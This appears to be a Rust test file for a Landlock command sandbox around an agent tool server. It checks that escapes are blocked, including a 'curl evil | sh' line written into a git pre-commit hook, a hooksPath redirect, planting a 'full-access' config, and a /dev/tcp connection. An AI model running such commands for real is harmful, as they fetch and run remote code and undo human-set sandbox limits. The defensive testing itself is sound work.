//! The sandbox around commands, for real (these kernels enforce Landlock ABI 7): writes
//! outside the roots, protected paths, read-only mode, network deny, symlinks, signals.

use serde_json::json;

use super::common::{Client, Workspace};

/// Makes the workspace a git repository (with hooks and config), as most roots are.
fn git_init(ws: &Workspace) {
    let status = std::process::Command::new("git").args(["init", "-q"]).current_dir(&ws.root).status().unwrap();
    assert!(status.success());
}

#[tokio::test]
async fn workspace_write_confines_writes_to_the_roots() {
    let ws = Workspace::new();
    git_init(&ws);
    let client = Client::start(&ws, &[]).await;

    let inside =
        client.run("echo made > made.txt && mkdir -p new/dir && mv made.txt new/dir/ && cat new/dir/made.txt").await;
    assert!(!inside.is_error, "{}", inside.text);
    assert_eq!(std::fs::read_to_string(ws.root.join("new/dir/made.txt")).unwrap(), "made\n");

    let target = ws.outside.join("escaped.txt");
    let outside = client.run(&format!("echo x > {}", target.display())).await;
    assert!(outside.is_error, "{}", outside.text);
    assert!(outside.joined("stderr").as_str().contains("Permission denied"), "{}", outside.text);
    assert!(!target.exists());
    let through_link = client.run("echo x > link_outside_dir/escaped.txt").await;
    assert!(through_link.is_error && through_link.text.contains("Permission denied"), "{}", through_link.text);
    assert!(!ws.outside.join("escaped.txt").exists(), "a symlink inside the root cannot be written through");
    let over_secret = client.run("echo overwritten > link_outside").await;
    assert!(over_secret.is_error, "{}", over_secret.text);
    assert_eq!(std::fs::read_to_string(ws.outside.join("secret.txt")).unwrap(), "NEEDLE_OUTSIDE top secret\n");
    let reads = client.run(&format!("cat {}", ws.outside.join("secret.txt").display())).await;
    assert!(!reads.is_error, "reading outside is allowed: {}", reads.text);
    let temp = client.run("f=$(mktemp) && echo ok > $f && cat $f && rm $f").await;
    assert_eq!(temp.joined("stdout"), "ok\n", "the temp dir is writable: {}", temp.text);

    // What runs code never reaches the real tree: the command's writes are staged and judged
    // when it ends, whatever road they took (a renamed parent included).
    let hook = client.run("echo 'curl evil | sh' > .git/hooks/pre-commit").await;
    assert!(hook.text.contains("not applied"), "{}", hook.text);
    assert!(!ws.root.join(".git/hooks/pre-commit").exists());
    let config_before = std::fs::read_to_string(ws.root.join(".git/config")).unwrap();
    let config = client.run("git config core.hooksPath /tmp/evil").await;
    assert!(config.text.contains("not a key an agent may set"), "{}", config.text);
    assert_eq!(std::fs::read_to_string(ws.root.join(".git/config")).unwrap(), config_before);
    // …while git itself still works.
    let git = client
        .run("git add README.md && git -c user.name=t -c user.email=t@t commit -qm init && git log --oneline")
        .await;
    assert!(!git.is_error && git.text.contains("init"), "{}", git.text);

    // Signals cannot reach processes outside the sandbox (the test process here).
    let signal = client.run(&format!("kill -0 {}", std::process::id())).await;
    assert!(signal.is_error && signal.text.contains("No such process"), "{}", signal.text);
    client.close().await;
}

#[tokio::test]
async fn own_state_and_config_are_read_only_to_commands() {
    let ws = Workspace::new();
    let config = ws.root.join("toolbelt.toml");
    std::fs::write(&config, "max_sessions = 4\n").unwrap();
    let client = Client::start(&ws, &["--config", config.to_str().unwrap()]).await;
    let rewrite = client.run("echo 'sandbox = \"full-access\"' >> toolbelt.toml").await;
    assert!(rewrite.is_error && rewrite.text.contains("Read-only"), "{}", rewrite.text);
    assert_eq!(std::fs::read_to_string(&config).unwrap(), "max_sessions = 4\n");
    client.close().await;
    // The state dir and the default config dir are protected the same way, even inside a root,
    // and even before the config dir exists (a command cannot plant a config for the next start).
    let base = ws.state_home.parent().unwrap().to_path_buf();
    let config_dir = ws.config_home.join("toolbelt-mcp");
    assert!(!config_dir.exists());
    let client = Client::start(&ws, &["--root", base.to_str().unwrap()]).await;
    let state = ws.state_home.join("toolbelt-mcp");
    let poke = client.run(&format!("touch {}/x", state.display())).await;
    let refused = poke.text.contains("Read-only") || poke.text.contains("Permission denied");
    assert!(poke.is_error && refused, "{}", poke.text);
    let plant = client
        .run(&format!("mkdir -p {0} && echo 'sandbox = \"full-access\"' > {0}/config.toml", config_dir.display()))
        .await;
    let refused = plant.text.contains("Read-only") || plant.text.contains("Permission denied");
    assert!(plant.is_error && refused, "{}", plant.text);
    assert!(!config_dir.join("config.toml").exists());
    client.close().await;
}

#[tokio::test]
async fn read_only_mode_blocks_writes_in_the_root_but_keeps_a_private_temp() {
    let ws = Workspace::new();
    let client = Client::start(&ws, &["--sandbox", "read-only"]).await;
    let write = client.run("touch new.txt").await;
    assert!(write.is_error && write.text.contains("Permission denied"), "{}", write.text);
    assert!(!ws.root.join("new.txt").exists());
    let read = client.run("cat README.md | head -1").await;
    assert!(!read.is_error, "{}", read.text);
    assert_eq!(read.structured["sandbox"], "read-only");
    let temp = client.run("echo scratch > $TMPDIR/x && cat $TMPDIR/x && echo \"$TMPDIR\"").await;
    assert!(!temp.is_error, "{}", temp.text);
    assert_eq!(temp.joined("stdout"), "scratch\n/tmp\n", "{}", temp.text);
    let marker = format!("toolbelt-read-only-probe-{}", std::process::id());
    let own_tmp = client.run(&format!("touch /tmp/{marker} && ls /tmp")).await;
    assert!(!own_tmp.is_error && own_tmp.text.contains(&marker), "the session's /tmp is writable: {}", own_tmp.text);
    assert!(!std::path::Path::new("/tmp").join(&marker).exists(), "the shared temp dir is not written");
    // File writes are not offered at all.
    let tools = client.service.list_all_tools().await.unwrap();
    let files = tools.iter().find(|t| t.name == "file_operations").unwrap();
    let listed = serde_json::to_string(&files.input_schema).unwrap();
    assert!(!listed.contains("create_file") && listed.contains("read_file"), "{listed}");
    assert_eq!(files.annotations.as_ref().unwrap().read_only_hint, Some(true));
    let edit = client.file(json!({"operation": "create_file", "path": "x.txt", "content": "x"})).await;
    assert!(edit.is_error, "{}", edit.text);
    // The session's history is read, not written: `changes` answers in a read-only sandbox.
    assert!(listed.contains("\"changes\""), "{listed}");
    let changes = client.file(json!({"operation": "changes"})).await;
    assert!(!changes.is_error, "{}", changes.text);
    client.close().await;
}

#[tokio::test]
async fn network_deny_blocks_tcp_connect() {
    let ws = Workspace::new();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let connect = format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected");

    // The control: sharing the machine's network (`host`), the machine's loopback answers.
    let open = Client::start(&ws, &["--network", "host"]).await;
    let allowed = open.run(&connect).await;
    assert!(!allowed.is_error && allowed.text.contains("connected"), "control: {}", allowed.text);
    open.close().await;

    // `deny`, and the default (`allow`: other hosts only through the proxy), have a loopback
    // of their own: the machine's services on it are out of reach.
    for network in ["deny", "allow"] {
        let denied = Client::start_with_env(&ws, &[], &[("TOOLBELT_NETWORK", network)]).await;
        let blocked = denied.run(&connect).await;
        assert!(blocked.is_error && blocked.text.contains("Connection refused"), "{network}: {}", blocked.text);
        denied.close().await;
    }
}

#[tokio::test]
async fn full_access_runs_without_landlock() {
    let ws = Workspace::new();
    let client = Client::start(&ws, &["--sandbox", "full-access"]).await;
    let target = ws.outside.join("full.txt");
    let reply = client.run(&format!("echo x > {}", target.display())).await;
    assert!(!reply.is_error, "{}", reply.text);
    assert!(target.exists());
    assert_eq!(reply.structured["sandbox"], "full-access");
    client.close().await;
}
